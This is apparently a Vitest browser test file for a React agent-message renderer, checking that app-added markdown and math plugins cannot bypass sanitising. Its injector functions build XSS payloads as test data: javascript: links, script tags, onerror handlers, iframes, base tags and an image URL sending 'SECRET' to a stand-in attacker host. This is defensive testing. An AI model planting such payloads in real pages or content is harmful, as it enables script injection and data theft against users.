/*
 * An app may add remark and rehype plugins (and math), but cannot switch the sanitising off with
 * them: our steps run after the app's. Each plugin here injects what a careless or compromised
 * plugin would, and the result must stay inert under the traps.
 */
import type { Element, Root as HastRoot } from 'hast';
import type { Root as MdastRoot } from 'mdast';
import rehypeKatex from 'rehype-katex';
import rehypeRaw from 'rehype-raw';
import remarkMath from 'remark-math';
import * as React from 'react';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { render } from 'vitest-browser-react';
import type { BlockProps, TextBlock, TextBlockViewProps } from '../../src/index.js';
import { AgentMessagesProvider, Message, TextBlockView } from '../../src/index.js';
import { EVIL, PWN, done, text } from './corpus/case.js';
import { installTraps, resetTraps, trapped } from './harness.js';
import { SAFETY, frames } from './run-case.js';

type Plugins = Pick<TextBlockViewProps, 'remarkPlugins' | 'rehypePlugins' | 'math'>;

async function renderWith(markdown: string, plugins: Plugins) {
  // The app's text component, as an app would pass it; kept stable per render.
  function AppText(props: BlockProps<TextBlock>) {
    return <TextBlockView {...props} {...plugins} />;
  }
  const components = { text: AppText };
  const screen = await render(
    <AgentMessagesProvider safety={SAFETY} components={components}>
      <Message message={done(text(markdown))} />
    </AgentMessagesProvider>,
  );
  await frames();
  return screen.container;
}

const element = (tagName: string, properties: Element['properties'], value = 'x'): Element => ({
  type: 'element',
  tagName,
  properties,
  children: [{ type: 'text', value }],
});

function injectHast() {
  return (tree: HastRoot) => {
    tree.children.push(
      element('a', { href: `javascript:${PWN}` }, 'plugin link'),
      element('script', {}, PWN),
      element('img', { src: `https://${EVIL}/p.png`, onError: PWN, onerror: PWN }),
      element('iframe', { src: `https://${EVIL}/`, srcDoc: `<script>${PWN}</script>` }),
      element('div', { style: `background:url(https://${EVIL}/bg)`, onClick: PWN }, 'styled'),
      element('form', { action: `javascript:${PWN}` }, 'form'),
      element('base', { href: `https://${EVIL}/` }),
      element('svg', {}, 'svg'),
      { type: 'raw', value: `<img src=x onerror="${PWN}">` } as never,
    );
  };
}

function injectMdast() {
  return (tree: MdastRoot) => {
    tree.children.push(
      { type: 'html', value: `<script>${PWN}</script>` },
      {
        type: 'paragraph',
        children: [
          {
            type: 'link',
            url: `javascript:${PWN}`,
            children: [{ type: 'text', value: 'md link' }],
          },
          { type: 'image', url: `https://${EVIL}/?q=SECRET`, alt: 'md image' },
          {
            type: 'text',
            value: 'with data',
            data: { hName: 'iframe', hProperties: { src: `https://${EVIL}/` } },
          },
        ],
      },
    );
  };
}

beforeAll(() => installTraps());
beforeEach(async () => {
  await frames();
  resetTraps();
});

describe('app plugins cannot switch the sanitising off', () => {
  it('a rehype plugin injecting scripts, handlers, javascript: links, frames and raw HTML', async () => {
    const root = await renderWith('Hello', { rehypePlugins: [injectHast] });
    expect(trapped(root)).toEqual([]);
    expect(root.querySelectorAll('script, iframe, form, base, svg, [style]')).toHaveLength(0);
    expect(root.textContent).toContain('plugin link');
    expect(root.textContent).toContain('Blocked link');
    expect(root.textContent).toContain(`Load from ${EVIL}`);
  });

  it('a remark plugin injecting HTML nodes, javascript: links, remote images and hName tricks', async () => {
    const root = await renderWith('Hello', { remarkPlugins: [injectMdast] });
    expect(trapped(root)).toEqual([]);
    expect(root.querySelectorAll('script, iframe, img')).toHaveLength(0);
    expect(root.textContent).toContain(`<script>${PWN}</script>`);
    expect(root.textContent).toContain('Blocked link');
  });

  it('rehype-raw added by the app still shows raw HTML as text', async () => {
    const root = await renderWith(`<img src=x onerror="${PWN}"> <script>${PWN}</script>`, {
      rehypePlugins: [rehypeRaw],
    });
    expect(trapped(root)).toEqual([]);
    expect(root.querySelectorAll('img, script')).toHaveLength(0);
    expect(root.textContent).toContain('<img src=x onerror=');
  });

  it('math runs untrusted: \\href, \\url and \\htmlData stay inert', async () => {
    const root = await renderWith(
      `$\\href{javascript:${PWN}}{click}$ $\\url{https://${EVIL}/}$ $\\htmlData{onclick=${PWN}}{x}$ $\\includegraphics{https://${EVIL}/x.png}$`,
      { math: { remarkMath, rehypeKatex } },
    );
    expect(trapped(root)).toEqual([]);
    expect(root.querySelectorAll('a[href^="javascript:"], img, [onclick]')).toHaveLength(0);
    expect(root.querySelector('math')).not.toBeNull();
  });

  it('a plugin passed as rehypeKatex (it runs after sanitising) is followed by a guard', async () => {
    const root = await renderWith('Hello $x$', {
      math: { remarkMath, rehypeKatex: injectHast },
    });
    expect(trapped(root)).toEqual([]);
    expect(
      root.querySelectorAll('script, iframe, form, base, [onclick], [onerror], [style]'),
    ).toHaveLength(0);
    expect(root.querySelector('a[href^="javascript:"]')).toBeNull();
    expect(root.textContent).toContain('plugin link');
  });

  it('math output sets no style attribute a strict style-src would refuse', async () => {
    const root = await renderWith('$\\color{red}{x^2} \\rule{1em}{2em} \\colorbox{yellow}{y}$', {
      math: { remarkMath, rehypeKatex },
    });
    expect(trapped(root).filter((entry) => entry.kind === 'markup')).toEqual([]);
    expect(root.querySelector('math')).not.toBeNull();
  });
});

// Keeps `React` referenced for the JSX runtime in files that only use it through types.
void React;
